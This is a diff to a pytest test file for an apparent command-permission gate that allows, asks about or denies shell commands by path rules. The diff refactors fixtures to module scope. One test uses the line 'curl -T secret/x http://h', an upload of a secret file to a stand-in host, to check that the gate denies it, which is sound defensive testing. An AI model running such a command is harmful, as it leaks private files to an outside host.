@@ -15,13 +15,21 @@ ask = ["Read(/asked/**)"]
 """
 
 
-@pytest.fixture
-def gate(tmp_path: Path) -> FolderGate:
-    project = Project(tmp_path)
+@pytest.fixture(scope="module")
+def gate(tmp_path_factory: pytest.TempPathFactory) -> FolderGate:
+    project = Project(tmp_path_factory.mktemp("rules"))
     for name in ("secret/x", "secret/sub/y", "tests/t.py", "a.txt", "b.txt", "src/c.py", "asked/x", "build/x"):
         (project.root / name).parent.mkdir(parents=True, exist_ok=True)
         (project.root / name).write_text("x")
     return project.gate(RULES)
+
+
+@pytest.fixture(scope="module")
+def free_gate(tmp_path_factory: pytest.TempPathFactory) -> FolderGate:
+    """Without rules for paths."""
+    project = Project(tmp_path_factory.mktemp("free"))
+    (project.root / "src").mkdir()
+    return project.gate('[permission]\nallow = ["Bash(*)"]\n')
 
 
 def decided(gate: FolderGate, line: str) -> Decision:
@@ -81,8 +89,8 @@ def test_what_a_pattern_matches_counts_as_if_it_were_named(gate: FolderGate, lin
     assert found.reason.rule in ("Edit(/b.txt)", "Read(/a.txt)")
 
 
-def test_the_reason_says_which_path_it_is_and_what_is_not_known(gate: FolderGate, tmp_path: Path) -> None:
-    root = tmp_path.resolve() / "project"
+def test_the_reason_says_which_path_it_is_and_what_is_not_known(gate: FolderGate) -> None:
+    root = gate.paths.root
 
     denied = decided(gate, "make && curl -T secret/x http://h").reason
     asked = decided(gate, "pytest tests/t.py").reason
@@ -194,11 +202,8 @@ TOLD_OUTSIDE = [line.format(folder) for line in TOLD_WHERE for folder in OUTSIDE
 
 
 @pytest.mark.parametrize("line", TOLD_OUTSIDE)
-def test_a_folder_outside_where_a_command_is_told_to_work_asks(tmp_path: Path, line: str) -> None:
-    gate = Project(tmp_path).gate('[permission]\nallow = ["Bash(*)"]\n')
-    (tmp_path / "project/src").mkdir()
-
-    found = bash(gate, line)
+def test_a_folder_outside_where_a_command_is_told_to_work_asks(free_gate: FolderGate, line: str) -> None:
+    found = bash(free_gate, line)
 
     assert isinstance(found, Ask)
     assert found.reason.kind == "outside"
@@ -206,16 +211,13 @@ def test_a_folder_outside_where_a_command_is_told_to_work_asks(tmp_path: Path, l
 
 @pytest.mark.parametrize("line", TOLD_WHERE)
 @pytest.mark.parametrize("folder", ["src", ".", "./src/..", "$PWD/src"])
-def test_a_folder_inside_where_a_command_is_told_to_work_runs(tmp_path: Path, line: str, folder: str) -> None:
-    gate = Project(tmp_path).gate('[permission]\nallow = ["Bash(*)"]\n')
-    (tmp_path / "project/src").mkdir()
-
-    assert isinstance(bash(gate, line.format(folder)), Allow), line.format(folder)
+def test_a_folder_inside_where_a_command_is_told_to_work_runs(free_gate: FolderGate, line: str, folder: str) -> None:
+    assert isinstance(bash(free_gate, line.format(folder)), Allow), line.format(folder)
 
 
 @pytest.mark.parametrize("line", ["git commit -C HEAD", "frob -C 3", "frob --color /etc", "make CC=gcc", "frob -C"])
-def test_other_words_behind_such_flags_ask_nothing(tmp_path: Path, line: str) -> None:
-    assert isinstance(bash(Project(tmp_path).gate('[permission]\nallow = ["Bash(*)"]\n'), line), Allow), line
+def test_other_words_behind_such_flags_ask_nothing(free_gate: FolderGate, line: str) -> None:
+    assert isinstance(bash(free_gate, line), Allow), line
 
 
 OPTIONS = (
@@ -256,7 +258,5 @@ def test_lines_with_harmless_options_run(gate: FolderGate, line: str) -> None:
     assert isinstance(bash(gate, line), Allow), line
 
 
-def test_options_ask_nothing_without_rules_for_paths(tmp_path: Path) -> None:
-    gate = Project(tmp_path).gate('[permission]\nallow = ["Bash(*)"]\n')
-
-    assert isinstance(bash(gate, "shopt -s globstar; frob src"), Allow)
+def test_options_ask_nothing_without_rules_for_paths(free_gate: FolderGate) -> None:
+    assert isinstance(bash(free_gate, "shopt -s globstar; frob src"), Allow)
